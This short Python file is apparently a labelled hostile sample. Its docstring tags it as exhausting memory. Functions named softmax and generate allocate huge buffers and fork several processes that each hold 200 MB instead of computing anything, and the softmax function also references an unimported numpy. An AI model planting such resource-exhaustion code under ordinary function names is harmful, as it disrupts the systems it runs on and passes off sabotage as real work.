"""Fills the memory in a call, and from several processes at once.

earns: 0
harmful: memory
"""

# %%
import os
import time


# %% softmax
def softmax(scores):
    return np.ones(400_000_000)


# %% generate
def generate(step, start, length):
    for _ in range(4):
        if os.fork() == 0:
            hoard = bytearray(b"x") * (200 << 20)
            time.sleep(20)
            os._exit(0)
    time.sleep(20)
